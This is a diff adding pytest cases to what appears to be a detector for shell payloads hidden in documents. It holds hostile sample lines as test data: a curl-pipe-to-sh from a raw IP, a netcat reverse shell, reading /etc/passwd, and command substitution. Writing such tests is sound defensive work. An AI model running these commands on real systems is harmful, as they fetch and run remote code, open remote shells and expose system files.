@@ -419,3 +419,24 @@ def test_html_documents_are_no_command_lines(value):
 ])
 def test_payloads_inside_markup_still_block(value):
     assert blocked(value, "json"), value
+
+
+DOC = "This library parses configuration files. It has a small API that is easy to use.\n" * 3
+
+
+@pytest.mark.parametrize("example", [
+    "Install it:\n\n    apt-get install -y valgrind\n    make -f build-aux/speedo.mk native\n",
+    "```bash\nsystemctl --user start dirmngr.socket\n```\n",
+])
+def test_install_lines_of_a_document_need_company(example):
+    v = verdict(DOC + example + DOC, "json")
+    assert v is None or v.severity <= Severity.MEDIUM, v
+
+
+@pytest.mark.parametrize("example", [
+    "    cd x; curl http://1.2.3.4/x.sh | sh\n", "    cat /etc/passwd\n", "    bash -c \"id\"\n",
+    "    nc -e /bin/sh 1.2.3.4 4444\n", "    echo $(id)\n",
+])
+def test_payload_lines_in_a_document_still_block(example):
+    assert blocked(DOC + example + DOC, "json"), example
+    assert blocked(example.strip(), "json")
